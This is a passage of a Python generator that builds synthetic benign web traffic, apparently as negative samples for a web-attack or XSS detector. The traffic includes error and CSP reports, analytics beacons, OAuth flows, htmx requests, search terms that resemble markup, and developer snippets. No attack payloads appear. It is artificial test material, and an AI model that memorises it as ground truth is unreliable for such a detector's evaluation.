        ("ChunkLoadError", "Loading chunk 731 failed.\n(error: https://app.example.net/static/js/731.8e2f.chunk.js)",
         "ChunkLoadError: Loading chunk 731 failed.\n    at __webpack_require__.f.j (https://app.example.net/static/js/runtime.js:1:3200)"),
        ("Error", "ResizeObserver loop completed with undelivered notifications.", ""),
        ("SecurityError", "Failed to read the 'localStorage' property from 'Window': Access is denied for this document.",
         "SecurityError: Failed to read the 'localStorage' property from 'Window'\n    at getItem (webpack-internal:///./src/storage.ts:8:20)"),
        ("TypeError", "Cannot set properties of null (setting 'innerHTML')",
         "TypeError: Cannot set properties of null (setting 'innerHTML')\n    at renderBanner (https://shop.example.com/assets/banner.js:44:31)\n    at window.onload (https://shop.example.com/:212:9)"),
        ("Error", "Minified React error #418; visit https://docs.example.com/react/errors/418?args[]=HTML&args[]= for the full message",
         "Error: Minified React error #418\n    at Ho (https://app.example.net/_next/static/chunks/framework-8883d1e9be70c3da.js:9:58212)"),
    ]
    for i in range(22):
        k = i % 5
        et, ev, stack = errors[i % len(errors)]
        if k in (0, 1):
            frames = [{"filename": ln.split("(")[-1].rsplit(":", 2)[0] if "(" in ln else "<anonymous>",
                       "function": ln.strip().split(" ")[1] if ln.strip().startswith("at ") else "?",
                       "in_app": True, "lineno": r.randint(1, 400), "colno": r.randint(1, 90000)}
                      for ln in stack.split("\n")[1:]]
            event = {"event_id": hexid(32), "platform": "javascript", "level": "error", "release": "web@2.4.%d" % r.randint(0, 9),
                     "environment": "production", "exception": {"values": [{"type": et, "value": ev, "stacktrace": {"frames": frames},
                                                                            "mechanism": {"type": "onerror", "handled": False}}]},
                     "request": {"url": "https://app.example.net/orders?page=%d" % r.randint(1, 9),
                                 "headers": {"User-Agent": r.choice(UAS), "Referer": "https://app.example.net/dashboard"}},
                     "breadcrumbs": {"values": [{"category": "ui.click", "message": "button#submit.btn.btn-primary[type=\"submit\"]",
                                                 "timestamp": 1715090000.123 + i},
                                                {"category": "navigation", "data": {"from": "/dashboard", "to": "/orders?page=2"}},
                                                {"category": "console", "level": "warning",
                                                 "message": "Warning: Each child in a list should have a unique \"key\" prop.%s\n\nCheck the render method of `OrderList`."}]},
                     "user": {"id": str(r.randint(1000, 99999)), "ip_address": "{{auto}}"}}
            ben("error-report", "POST", "/api/%d/store/?sentry_key=%s&sentry_version=7" % (r.randint(2, 90), hexid(32)),
                [["Host", "errors.example.com"], ["User-Agent", r.choice(UAS)], ["Accept", "*/*"],
                 ["Content-Type", "text/plain;charset=UTF-8"], ["Origin", "https://app.example.net"],
                 ["Referer", "https://app.example.net/"]], jdump(event))
        elif k == 2:
            rep = {"message": "Uncaught " + et + ": " + ev, "source": "https://shop.example.com/assets/app-4c1d.js",
                   "lineno": r.randint(1, 800), "colno": r.randint(1, 300), "stack": stack,
                   "url": "https://shop.example.com/checkout#/step-%d" % r.randint(1, 3), "userAgent": r.choice(UAS)}
            ben("error-report", "POST", "/client-errors", [["Host", "shop.example.com"], ["User-Agent", r.choice(UAS)],
                ["Accept", "*/*"], ["Content-Type", "application/json"], ["Origin", "https://shop.example.com"]], jdump(rep))
        elif k == 3:
            sample = r.choice(["", "window.dataLayer = window.dataLayer || [];function gtag(){dataLayer.push(ar",
                               "document.documentElement.className = document.documentElement.className.replace('no-js','js');",
                               "return false;", "eval"])
            csp = {"csp-report": {"document-uri": "https://shop.example.com/checkout", "referrer": "https://shop.example.com/cart",
                                  "violated-directive": r.choice(["script-src-elem", "script-src-attr", "style-src-elem", "img-src"]),
                                  "effective-directive": "script-src-elem",
                                  "original-policy": "default-src 'self'; script-src 'self' 'nonce-" + b62(22) + "' https://cdn.example.com; object-src 'none'; base-uri 'none'; report-uri /csp-report",
                                  "disposition": "enforce", "blocked-uri": r.choice(["inline", "eval", "https://ads.example.net/px.js",
                                                                                      "data"]),
                                  "line-number": r.randint(1, 300), "column-number": r.randint(1, 80),
                                  "source-file": "https://shop.example.com/checkout", "status-code": 200, "script-sample": sample}}
            ben("csp-report", "POST", "/csp-report", [["Host", "errors.example.com"], ["User-Agent", r.choice(UAS)],
                ["Content-Type", "application/csp-report"], ["Origin", "https://shop.example.com"]], json.dumps(csp))
        else:
            reports = [{"age": r.randint(1, 60000), "type": "csp-violation", "url": "https://app.example.net/inbox?folder=work",
                        "user_agent": r.choice(UAS),
                        "body": {"blockedURL": "inline", "columnNumber": 39, "disposition": "report",
                                 "documentURL": "https://app.example.net/inbox?folder=work", "effectiveDirective": "script-src-attr",
                                 "lineNumber": 121, "originalPolicy": "script-src 'self' 'strict-dynamic' 'nonce-" + b62(22) + "'; report-to csp",
                                 "referrer": "", "sample": "this.parentElement.remove()", "sourceFile": "https://app.example.net/inbox",
                                 "statusCode": 200}},
                       {"age": 12, "type": "deprecation", "url": "https://app.example.net/", "user_agent": r.choice(UAS),
                        "body": {"id": "UnloadHandler", "message": "Unload event listeners are deprecated and will be removed.",
                                 "sourceFile": "https://app.example.net/static/js/legacy.js", "lineNumber": 3, "columnNumber": 12}}]
            ben("csp-report", "POST", "/reports", [["Host", "errors.example.com"], ["User-Agent", r.choice(UAS)],
                ["Content-Type", "application/reports+json"], ["Origin", "https://app.example.net"]], json.dumps(reports))


def gen_benign_traffic():
    r = rnd
    pages = [("https://shop.example.com/product/trail-runner-2?color=blue&size=42", "Trail Runner 2 \u2013 Acme Shop"),
             ("https://blog.example.org/2024/05/spring-release/?utm_source=newsletter&utm_medium=email", "Spring release notes | Acme Blog"),
             ("https://docs.example.com/reference/cpp/vector", "C++ <vector> reference"),
             ("https://shop.example.com/search?q=rain+jacket&page=2", "Search: rain jacket"),
             ("https://app.example.net/#/checkout/step-2", "Checkout"),
             ("https://help.example.com/hc/en-us/articles/360001-How-do-I-reset-my-password", "How do I reset my password? \u2013 Help Center"),
             ("https://blog.example.org/q-and-a-what-s-new-in-v2/", "Q&A: What's new in v2"),
             ("https://shop.example.com/c/kids?sort=price_asc&filter[size]=128", "Kids \u2013 Acme Shop")]
    refs = ["https://www.example.org/search?q=acme+trail+runner+review", "https://news.example.net/item?id=40211234",
            "https://social.example.net/@acme/112233445566", "", "android-app://com.example.mail/",
            "https://blog.example.org/", "https://mail.example.com/"]
    # --- analytics beacons
    for i in range(30):
        url, title = pages[i % len(pages)]
        ref = refs[i % len(refs)]
        k = i % 5
        cid = "%d.%d" % (r.randint(10 ** 8, 10 ** 9), 1715000000 + r.randint(0, 99999))
        if k == 0:
            pairs = [("v", "2"), ("tid", "G-" + b62(10).upper()), ("gtm", "45je45i0v9" + str(r.randint(100, 999))), ("_p", str(r.randint(10 ** 8, 10 ** 9))),
                     ("cid", cid), ("ul", "en-us"), ("sr", r.choice(["1920x1080", "390x844", "2560x1440"])), ("_s", str(r.randint(1, 9))),
                     ("dl", url), ("dr", ref), ("dt", title), ("en", r.choice(["page_view", "scroll", "view_item", "click"])),
                     ("_et", str(r.randint(10, 9000)))]
            if i % 10 == 5:
                pairs += [("ep.link_url", "https://partner.example.net/offer?id=12&ref=acme"), ("ep.link_text", "See offer \u2192"),
                          ("ep.outbound", "true")]
            ben("analytics", "POST", "/g/collect?" + qs(pairs, enc_strict),
                [["Host", "collect.example.net"], ["User-Agent", r.choice(UAS)], ["Accept", "*/*"],
                 ["Content-Type", "text/plain;charset=UTF-8"], ["Origin", url.split("/", 3)[0] + "//" + url.split("/")[2]],
                 ["Referer", url.split("#")[0]]], "")
        elif k == 1:
            pairs = [("idsite", str(r.randint(1, 12))), ("rec", "1"), ("action_name", title), ("url", url), ("urlref", ref),
                     ("_id", hexid(16)), ("rand", str(r.randint(10 ** 5, 10 ** 6))), ("apiv", "1"), ("res", "1440x900"),
                     ("h", str(r.randint(0, 23))), ("m", str(r.randint(0, 59))), ("s", str(r.randint(0, 59))), ("pv_id", b62(6)),
                     ("cookie", "1"), ("pf_net", str(r.randint(0, 200))), ("pf_srv", str(r.randint(20, 400)))]
            ben("analytics", "GET", "/matomo.php?" + qs(pairs, enc_strict),
                [["Host", "collect.example.net"], ["User-Agent", r.choice(UAS)], ["Accept", "image/avif,image/webp,*/*"],
                 ["Referer", url.split("#")[0]]])
        elif k == 2:
            ev = {"type": "track", "event": r.choice(["Product Clicked", "Checkout Started", "Link Clicked", "Video Played"]),
                  "properties": {"url": url, "product_id": "sku-%d" % r.randint(1000, 9999), "price": 89.0, "currency": "EUR",
                                 "href": "/cart?add=%d" % r.randint(1000, 9999), "selector": "div.hero > a.btn:nth-child(2)"},
                  "context": {"page": {"path": "/" + url.split("/", 3)[3].split("?")[0], "referrer": ref, "title": title, "url": url,
                                       "search": "?" + url.split("?")[1] if "?" in url else ""},
                              "userAgent": r.choice(UAS), "locale": "en-US", "library": {"name": "analytics.js", "version": "next-1.64.0"},
                              "campaign": {"source": "newsletter", "medium": "email", "name": "spring24"}},
                  "anonymousId": "%s-%s-4%s-a%s-%s" % (hexid(8), hexid(4), hexid(3), hexid(3), hexid(12)),
                  "messageId": "ajs-next-" + hexid(32), "timestamp": "2024-05-07T10:%02d:%02d.123Z" % (r.randint(0, 59), r.randint(0, 59)),
                  "writeKey": b62(32)}
            ben("analytics", "POST", "/v1/t", [["Host", "collect.example.net"], ["User-Agent", r.choice(UAS)],
                ["Content-Type", "text/plain"], ["Origin", "https://" + url.split("/")[2]]], jdump(ev))
        elif k == 3:
            ev = {"n": r.choice(["pageview", "Signup", "404"]), "u": url, "d": url.split("/")[2], "r": ref or None,
                  "w": r.choice([1440, 390, 1920]), "h": 0}
            if ev["n"] == "404":
                ev["p"] = {"path": "/old-page.html?ref=footer"}
            ben("analytics", "POST", "/api/event", [["Host", "collect.example.net"], ["User-Agent", r.choice(UAS)],
                ["Content-Type", "text/plain"], ["Origin", "https://" + url.split("/")[2]]], json.dumps(ev))
        else:
            pairs = [("e", "click"), ("href", url), ("text", r.choice(["Add to cart", "Read more \u00bb", "<< Back", "Sign up \u2014 it's free"])),
                     ("el", r.choice(["a.product-card__link", "button[data-action=\"subscribe\"]", "nav > ul > li:nth-child(3) > a"])),
                     ("t", str(1715090000000 + i))]
            ben("analytics", "GET", "/px.gif?" + qs(pairs, r.choice(ENCODERS)),
                [["Host", "collect.example.net"], ["User-Agent", r.choice(UAS)], ["Accept", "image/*"], ["Referer", url.split("#")[0]]])

    # --- OAuth / OIDC flows with legitimate redirect targets
    clients = [("webapp-prod", "https://app.example.com/auth/callback"), ("crm-portal", "https://crm.example.com/oauth2/callback?provider=acme"),
               ("mobile-ios", "com.example.mobile:/oauth2redirect"), ("cli-tool", "http://127.0.0.1:53682/callback"),
               ("dev-local", "http://localhost:3000/api/auth/callback/acme"), ("spa-admin", "https://admin.example.com/silent-renew.html"),
               ("desktop", "http://[::1]:49152/cb"), ("partner", "https://partner.example.net/sso/acme/callback")]
    for i in range(16):
        cid, ru = clients[i % len(clients)]
        pairs = [("response_type", "code"), ("client_id", cid), ("redirect_uri", ru), ("scope", r.choice(["openid profile email",
                 "openid offline_access", "read:orders write:orders"])), ("state", b62(22)), ("code_challenge", b62(43)),
                 ("code_challenge_method", "S256")]
        if i % 3 == 0:
            pairs += [("nonce", b62(16)), ("response_mode", r.choice(["query", "form_post", "fragment"]))]
        if i % 4 == 1:
            pairs += [("prompt", "login"), ("login_hint", "ana.silva@example.com"), ("ui_locales", "pt-BR en")]
        ben("oauth", "GET", "/oauth2/authorize?" + qs(pairs, r.choice([enc_strict, enc_form])),
            browser_headers("id.example.com", referer=r.choice(["https://app.example.com/", "https://crm.example.com/login", None]),
                            fetch_mode="navigate"))
    for i in range(6):
        cid, ru = clients[i % len(clients)]
        body = form_body([("grant_type", "authorization_code"), ("code", b62(40)), ("redirect_uri", ru), ("client_id", cid),
                          ("code_verifier", b62(64))])
        ben("oauth", "POST", "/oauth2/token", [["Host", "id.example.com"], ["User-Agent", r.choice(TOOL_UAS[:3] + ["okhttp/4.12.0"])],
            ["Accept", "application/json"], ["Content-Type", "application/x-www-form-urlencoded"]], body)
    for i in range(3):
        body = form_body([("code", b62(40)), ("state", b62(22)), ("id_token", "eyJhbGciOiJSUzI1NiIsImtpZCI6IjEifQ." + b62(120) + "." + b62(86)),
                          ("session_state", hexid(32) + "." + b62(22))])
        ben("oauth", "POST", "/auth/callback", browser_headers("app.example.com", ctype="application/x-www-form-urlencoded",
                                                              origin="https://id.example.com", referer="https://id.example.com/"), body)
    callbacks = ["/auth/callback?code=%s&state=%s&scope=openid%%20profile%%20email" % (b62(40), b62(22)),
                 "/auth/callback?error=access_denied&error_description=The+user+denied+the+request&state=" + b62(22),
                 "/oauth2/callback?provider=acme&code=%s&state=%s&iss=https%%3A%%2F%%2Fid.example.com" % (b62(40), b62(22))]
    for u in callbacks:
        ben("oauth", "GET", u, browser_headers("app.example.com", referer="https://id.example.com/", fetch_mode="navigate"))
    returns = [("id.example.com", "/login", "next", "/dashboard"), ("id.example.com", "/login", "next", "/orders?page=2&status=open"),
               ("id.example.com", "/logout", "returnTo", "https://app.example.com/"),
               ("blog.example.org", "/wp-login.php", "redirect_to", "https://blog.example.org/wp-admin/post.php?post=42&action=edit"),
               ("app.example.net", "/signin", "continue", "https://app.example.net/inbox#label/work"),
               ("help.example.com", "/access/return", "return_to", "https://help.example.com/hc/en-us/requests/new"),
               ("shop.example.com", "/account/login", "checkout_url", "/checkouts/" + hexid(32)),
               ("id.example.com", "/session/end", "post_logout_redirect_uri", "https://app.example.com/goodbye"),
               ("mail.example.com", "/track/click", "u", "https://shop.example.com/sale?utm_source=newsletter&utm_campaign=spring24"),
               ("app.example.net", "/auth/sso", "redirect_url", "/settings/billing?tab=invoices"),
               ("id.example.com", "/login", "next", "/reports/2024-Q1?format=pdf"),
               ("shop.example.com", "/redirect", "url", "/c/shoes?color=blue")]
    for host, path, name, val in returns:
        ben("login-return", "GET", f"{path}?{name}=" + r.choice([enc_strict, enc_browser])(val) + ("&id_token_hint=" + b62(60) if "logout" in name else ""),
            browser_headers(host, fetch_mode="navigate", referer="https://" + host + "/"))
    ben("oauth", "GET", "/.well-known/openid-configuration", [["Host", "id.example.com"], ["User-Agent", "python-requests/2.31.0"], ["Accept", "application/json"]])
    ben("oauth", "GET", "/.well-known/jwks.json", [["Host", "id.example.com"], ["User-Agent", "Go-http-client/1.1"], ["Accept", "*/*"]])
    saml = base64.b64encode(('<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_' + hexid(32) +
                             '" Version="2.0" IssueInstant="2024-05-07T10:15:33Z" Destination="https://app.example.com/saml/acs">'
                             '<saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">https://id.example.com/saml</saml:Issuer>'
                             '<samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status></samlp:Response>').encode()).decode()
    ben("oauth", "POST", "/saml/acs", browser_headers("app.example.com", ctype="application/x-www-form-urlencoded", origin="https://id.example.com"),
        form_body([("SAMLResponse", saml), ("RelayState", "/apps/crm?view=pipeline")]))

    # --- JSONP with ordinary callbacks
    cbs = ["jQuery36008837383911458245_%d" % (1715094812345 + 1), "angular.callbacks._2", "__jp3", "handleWeather",
           "window.__widgetLoaded", "Acme.Widgets.render_7", "jsonp_1715094812345_12345", "_ate.cbs.rcb_k2n1",
           "jQuery112403913948293753421_1715094800000", "cb0", "parent.onStatus", "$jsonp_cb_42", "ng_jsonp_callback_0",
           "JSONP.callbacks[3]", "__gcse.cb_1"]
    eps = [("widgets.example.org", "/api/weather", [("city", "Amsterdam")], "callback"),
           ("widgets.example.org", "/api/v1/stats.js", [("site", "blog")], "jsonp"),
           ("shop.example.com", "/search/suggest", [("q", "rain ja")], "cb"),
           ("app.example.net", "/api/user/status", [], "callback")]
    for i, cb in enumerate(cbs):
        host, path, pairs, name = eps[i % 4]
        uri = path + "?" + qs(pairs + [(name, cb), ("_", str(1715094812346 + i))], r.choice([enc_strict, enc_browser]))
        ben("jsonp", "GET", uri, browser_headers(host, accept="*/*", referer="https://blog.example.org/widgets",
                                                extra=[("Sec-Fetch-Dest", "script"), ("Sec-Fetch-Mode", "no-cors")]))

    # --- feature flags
    for i in range(15):
        k = i % 5
        if k == 0:
            ctx = {"kind": "user", "key": "user-%d" % r.randint(1000, 99999), "email": "dev%d@example.com" % i,
                   "custom": {"plan": r.choice(["free", "pro", "enterprise"]), "country": r.choice(["NL", "DE", "US"])}}
            ben("feature-flags", "GET", "/sdk/evalx/%s/contexts/%s" % (hexid(24), base64.urlsafe_b64encode(json.dumps(ctx).encode()).decode().rstrip("=")),
                [["Host", "flags.example.com"], ["User-Agent", r.choice(UAS)], ["Accept", "application/json"],
                 ["Origin", "https://app.example.net"], ["X-LaunchDarkly-User-Agent", "JSClient/3.1.4"]])
        elif k == 1:
            ben("feature-flags", "POST", "/api/frontend", [["Host", "flags.example.com"], ["User-Agent", r.choice(UAS)],
                ["Accept", "application/json"], ["Content-Type", "application/json"], ["Authorization", "default:production." + hexid(40)]],
                jdump({"context": {"userId": str(r.randint(1, 99999)), "sessionId": hexid(16), "appName": "web",
                                   "properties": {"tenant": "acme", "betaOptIn": "true"}}}))
        elif k == 2:
            flag = {"name": r.choice(["new-checkout", "dark-mode", "search-v2", "promo-banner"]), "enabled": True,
                    "strategies": [{"name": "flexibleRollout", "parameters": {"rollout": str(r.choice([5, 25, 50])), "stickiness": "userId",
                                                                              "groupId": "new-checkout"},
                                    "constraints": [{"contextName": "email", "operator": "STR_ENDS_WITH", "values": ["@example.com"]},
                                                    {"contextName": "appVersion", "operator": "SEMVER_GT", "value": "2.3.0"}]}],
                    "variants": [{"name": "banner", "weight": 1000, "payload": {"type": "json",
                                  "value": json.dumps({"color": "#ffe066", "html": "<b>Spring sale</b> ends Sunday \u2014 <a href=\"/sale\">shop now</a>"})}}]}
            ben("feature-flags", "PUT", "/api/admin/projects/default/features/%s" % flag["name"], api_headers("flags.example.com"), jdump(flag))
        elif k == 3:
            rules = {"rules": [{"id": hexid(8), "condition": {"attribute": "email", "operator": "matches", "value": "^[^@]+@(example\\.com|example\\.org)$"}},
                               {"id": hexid(8), "condition": {"attribute": "path", "operator": "startsWith", "value": "/checkout"}},
                               {"id": hexid(8), "condition": {"attribute": "userAgent", "operator": "contains", "value": "Mobile"}}],
                     "fallthrough": {"variation": 0}, "offVariation": 1}
            ben("feature-flags", "PATCH", "/api/v2/flags/default/%s" % r.choice(["new-checkout", "search-v2"]), api_headers("flags.example.com"),
                jdump({"environmentKey": "production", "instructions": [{"kind": "replaceRules", **rules}]}))
        else:
            ben("feature-flags", "GET", "/api/v1/flags/?" + qs([("identifier", "user_%d" % r.randint(1, 9999)), ("traits", "plan:pro")]),
                [["Host", "flags.example.com"], ["User-Agent", r.choice(UAS)], ["Accept", "application/json"],
                 ["X-Environment-Key", b62(22)], ["Origin", "https://app.example.net"]])

    # --- htmx / Turbo / Livewire / Alpine application traffic
    hx = [("GET", "/contacts?" + qs([("q", "joe smith")], enc_form), None, "search", "search-results"),
          ("POST", "/contacts/12/edit", form_body([("first_name", "Joe"), ("last_name", "O'Neil"), ("email", "joe@example.com"),
                                                   ("phone", "+1 (555) 010-2000")]), "save", "contact-12"),
          ("DELETE", "/todos/4", None, "delete-btn", "todo-4"),
          ("PUT", "/todos/7/toggle", form_body([("done", "true")]), "toggle-7", "todo-7"),
          ("GET", "/products?" + qs([("page", "3"), ("category", "outdoor & camping")], enc_strict), None, "load-more", "grid"),
          ("POST", "/newsletter", form_body([("email", "ana@example.org"), ("consent", "on")]), "subscribe", "nl-form"),
          ("GET", "/notifications/count", None, None, "badge")]
    for i, (m, u, b, trig, tgt) in enumerate(hx):
        extra = [("HX-Request", "true"), ("HX-Current-URL", "https://app.example.net/contacts"), ("HX-Target", tgt)]
        if trig:
            extra.append(("HX-Trigger", trig))
        h = browser_headers("app.example.net", accept="*/*", ctype="application/x-www-form-urlencoded" if b else None,
                            cookie=session_cookie("app_sid"), extra=extra + [("X-CSRF-Token", b62(43))] if m != "GET" else extra)
        ben("htmx", m, u, h, b)
    for i in range(4):
        body = form_body([("_method", "patch"), ("authenticity_token", b62(86)), ("message[content]", r.choice([
            "Sounds good, see you at 3pm", "Can you share the Q2 deck?", "\U0001F44D shipped", "Fix is live \u2192 please retest"]))])
        ben("turbo", "POST", "/rooms/%d/messages" % r.randint(1, 80), browser_headers(
            "app.example.net", accept="text/vnd.turbo-stream.html, text/html, application/xhtml+xml",
            ctype="application/x-www-form-urlencoded;charset=UTF-8", origin="https://app.example.net",
            cookie="_app_session=" + b62(120), extra=[("X-Turbo-Request-Id", "%s-%s" % (hexid(8), hexid(4)))]), body)
    for i in range(4):
        snap = {"data": {"search": "", "sortBy": "created_at", "perPage": 25, "filters": [{"status": "open"}, {"s": "arr"}]},
                "memo": {"id": b62(20), "name": "orders-table", "path": "admin/orders", "method": "GET", "children": [],
                         "scripts": [], "assets": [], "errors": [], "locale": "en"}, "checksum": hexid(64)}
        body = {"_token": b62(40), "components": [{"snapshot": json.dumps(snap), "updates": {"search": r.choice(["acme", "order 1042", "o'neil"])},
                                                   "calls": [{"path": "", "method": "$refresh", "params": []}] if i % 2 else []}]}
        ben("livewire", "POST", "/livewire/update", browser_headers("shop.example.com", accept="*/*", ctype="application/json",
                                                                  origin="https://shop.example.com", cookie="laravel_session=" + b62(40),
                                                                  extra=[("X-Livewire", "")]), jdump(body))

    # --- searches and browsing whose words look like markup or script
    searches = ["javascript alert box styling", "onload event not firing", "script font generator", "<3 valentine cards",
                "a < b > c", "details toggle arrow", "C# & .NET books", "O'Reilly Learning Python", "popover menu css",
                "animation start delay", "svg icon set", "\"exact phrase\" search", "1/2\" drill bit", "size 10.5 (EU 44)",
                "Tom & Jerry dvd", "r\u00e9sum\u00e9 template", "\u30ec\u30a4\u30f3\u30b8\u30e3\u30b1\u30c3\u30c8", "jacket -leather",
                "price:<50 shoes", "50% off", "#hashtag tote", "email@example.com order", "math x^2+y^2", "ticket 4412 \u2014 refund",
                "base href meaning", "window cleaner", "document shredder", "cookie jar ceramic", "frame 30x40 cm",
                "object lesson book", "embed code wedding video", "import export license", "Dr. Martens 1460",
                "M&M's party pack", "AT&T charger", "\u00bfd\u00f3nde est\u00e1 mi pedido?", "Kinder-Fahrrad 20\"", "style guide 2024"]
    carriers = [g_shop_search, g_blog_search, g_help_search, g_wiki, g_filter]
    for i, s in enumerate(searches):
        m, u, h = carriers[i % len(carriers)](s, ENCODERS[i % 3])
        ben("search", m, u, h)

    browse = [("shop.example.com", "/product/trail-runner-2?color=blue&size=42&gclid=Cj0KCQjw" + b62(40)),
              ("blog.example.org", "/2024/05/spring-release/?fbclid=IwAR" + b62(40)),
              ("shop.example.com", "/c/kids?sort=price_asc&filter%5Bsize%5D=128&filter%5Bcolor%5D%5B%5D=red&filter%5Bcolor%5D%5B%5D=navy"),
              ("app.example.net", "/share?url=https%3A%2F%2Fblog.example.org%2F2024%2F05%2Fspring-release%2F&text=Great%20read%20%E2%80%94%20worth%20it"),
              ("docs.example.com", "/assets/app.css?v=3.2.1"), ("docs.example.com", "/search?q=%3Cdetails%3E%20element"),
              ("wiki.example.org", "/wiki/Special:Search?search=Template%3AInfobox&fulltext=1"),
              ("widgets.example.org", "/embed/map?label=Caf%C3%A9%20de%20Jaren&lat=52.3667&lng=4.8945&zoom=15"),
              ("help.example.com", "/hc/en-us/articles/360001-How-do-I-reset-my-password?source=search&auth_token=" + b62(20)),
              ("shop.example.com", "/api/v1/cart?fields=items,total&include=product.images"),
              ("app.example.net", "/u/mira?tab=posts&before=2024-05-01T00%3A00%3A00Z"),
              ("blog.example.org", "/?p=1042&preview=true&_ppp=" + hexid(10))]
    for host, u in browse:
        ben("browse", "GET", u, browser_headers(host, cookie=session_cookie() if rnd.random() < 0.5 else None,
                                                 referer=r.choice(refs) or None))
    cookies = [("shop.example.com", "/", "cookie_consent=%7B%22necessary%22%3Atrue%2C%22analytics%22%3Afalse%2C%22marketing%22%3Afalse%7D; " + session_cookie("shop_session")),
               ("blog.example.org", "/", "wp-settings-1=libraryContent%3Dbrowse%26editor%3Dhtml; wp-settings-time-1=1715090000"),
               ("app.example.net", "/dashboard", "theme=dark; tz=Europe%2FAmsterdam; recent=%5B%22%2Forders%22%2C%22%2Fsettings%22%5D; " + session_cookie("app_sid")),
               ("help.example.com", "/hc/en-us", "_help_session=" + hexid(40) + "; hc_locale=en-us; _ga=GA1.1.%d.1715000000" % r.randint(10 ** 8, 10 ** 9))]
    for host, u, c in cookies:
        ben("browse", "GET", u, browser_headers(host, cookie=c, fetch_mode="navigate"))

    # --- ordinary uploads with awkward file names
    files = [("IMG_2041 (1).jpg", "image/jpeg"), ("R\u00e9sum\u00e9 \u2013 Anna.pdf", "application/pdf"), ("report_Q1'24.xlsx",
             "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
             ("Screenshot 2024-05-07 at 10.15.33.png", "image/png"), ("\u0434\u0438\u0430\u0433\u0440\u0430\u043c\u043c\u0430.png", "image/png"),
             ("notes [draft] v2.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
             ("invoice#4412.pdf", "application/pdf"), ("logo@2x.webp", "image/webp"), ("a&b meeting.txt", "text/plain"),
             ("export (copy).csv", "text/csv")]
    for i, (fn, ct) in enumerate(files):
        host, path = [("files.example.com", "/api/upload"), ("help.example.com", "/hc/requests/uploads"),
                      ("app.example.net", "/api/v2/me/avatar"), ("wiki.example.org", "/wiki/Special:Upload")][i % 4]
        content = "name,email,total\nAna,ana@example.com,42.50\n" if ct == "text/csv" else (
            "Agenda:\n- budget\n- hiring\n" if ct == "text/plain" else "binary-%s" % hexid(40))
        mct, body = multipart([("file", fn, ct, content), ("folder", "uploads")])
        ben("upload", "POST", path, browser_headers(host, accept=ACCEPT_JSON, ctype=mct, origin="https://" + host,
                                                   cookie=session_cookie()), body)

    # --- comments, reviews, chat with characters that resemble markup
    texts = ["Love it <3 would buy again!!!", "Fits well. Size up if you're between sizes :-)", "x < 5 and y > 3 so the offer applies, right?",
             "Arrived late >_< but support was great", "5/5 \u2014 \"best jacket I've owned\"", "Can I pay with PayPal & split the order?",
             "My kid said: <<this is the coolest bike ever>>", "Quick question re: order #A-10422 (placed 05/07)",
             "Visit https://blog.example.org/2024/05/spring-release/?ref=comment for the full story",
             "Hmm... the 'details' link in the email goes to a 404", "Prices in \u20ac or $? -> please clarify",
             "Great article! The part about the script for the school play made me laugh", "Note to self: alert the team on Monday",
             "We're at 10:00 => see you there", "Das ist \u00fcberragend \u2014 danke!"]
    for i, t in enumerate(texts):
        m, u, h, b = [p_comment_form, p_review_form, p_comment_json, p_chat_json, p_ticket_multipart][i % 5](t)
        ben("comment", m, u, h, b)


# =========================================================================== dev-content pool

# (title, tags, language, code, prose) -- code that developers post to Q&A sites, docs CMSs and snippet APIs.
DEV_SNIPPETS = [
    ("Rendering user HTML safely in React", ["reactjs", "xss", "dompurify"], "jsx",
     "import DOMPurify from 'dompurify';\n\nexport function Comment({ html }) {\n  const clean = DOMPurify.sanitize(html, { USE_PROFILES: { html: true } });\n  return <div className=\"comment\" dangerouslySetInnerHTML={{ __html: clean }} />;\n}\n",
     "Is this enough, or do I also need to strip `style` attributes?"),
    ("Vue: v-html vs interpolation", ["vue.js"], "vue",
     "<template>\n  <div>\n    <h2>{{ user.name }}</h2>\n    <button v-on:click=\"toggle\" :class=\"{ active: open }\">Details</button>\n    <p v-if=\"open\" v-text=\"user.bio\"></p>\n  </div>\n</template>\n\n<script setup>\nimport { ref } from 'vue'\nconst open = ref(false)\nconst toggle = () => (open.value = !open.value)\n</script>\n",
     "Why does the docs page warn against `v-html` with user content?"),
    ("AngularJS ng-bind-html requires $sce?", ["angularjs"], "html",
     "<div ng-app=\"shop\" ng-controller=\"CartCtrl as cart\">\n  <li ng-repeat=\"item in cart.items track by item.id\">\n    {{ item.name }} &mdash; {{ item.price | currency:'\u20ac' }}\n    <span ng-bind-html=\"item.descriptionHtml\"></span>\n    <button ng-click=\"cart.remove(item)\">Remove</button>\n  </li>\n</div>\n",
     "I get `Error: [$sce:unsafe]` when binding the description."),
    ("Alpine.js dropdown closes immediately", ["alpine.js"], "html",
     "<div x-data=\"{ open: false }\" @keydown.escape.window=\"open = false\">\n  <button @click=\"open = !open\" :aria-expanded=\"open\">Menu</button>\n  <ul x-show=\"open\" x-transition @click.outside=\"open = false\">\n    <li><a href=\"/account\">Account</a></li>\n    <li><a href=\"/logout\">Log out</a></li>\n  </ul>\n</div>\n",
     "The menu flashes and closes when I click the button."),
    ("htmx: swap a row after delete", ["htmx"], "html",
     "<tr id=\"row-42\">\n  <td>Invoice 42</td>\n  <td>\n    <button hx-delete=\"/invoices/42\" hx-target=\"closest tr\" hx-swap=\"outerHTML swap:1s\"\n            hx-confirm=\"Delete invoice 42?\">Delete</button>\n  </td>\n</tr>\n<input type=\"search\" name=\"q\" hx-get=\"/invoices/search\" hx-trigger=\"keyup changed delay:500ms\" hx-target=\"#results\">\n",
     "How do I fade the row out before it is removed?"),
    ("Knockout foreach binding not updating", ["knockout.js"], "html",
     "<ul data-bind=\"foreach: people\">\n  <li>\n    <span data-bind=\"text: firstName\"></span>\n    <a href=\"#\" data-bind=\"click: $parent.removePerson\">Remove</a>\n  </li>\n</ul>\n<script>\n  function VM() { this.people = ko.observableArray([{ firstName: 'Bert' }]); }\n  ko.applyBindings(new VM());\n</script>\n",
     "Pushing to the array does not re-render the list."),
    ("Detect inserted nodes with animationstart", ["css", "javascript", "dom"], "css",
     "@keyframes nodeInserted { from { opacity: .99 } to { opacity: 1 } }\n.widget { animation-duration: 1ms; animation-name: nodeInserted; }\n\n/* js */\ndocument.addEventListener('animationstart', (e) => {\n  if (e.animationName === 'nodeInserted') initWidget(e.target);\n}, true);\n",
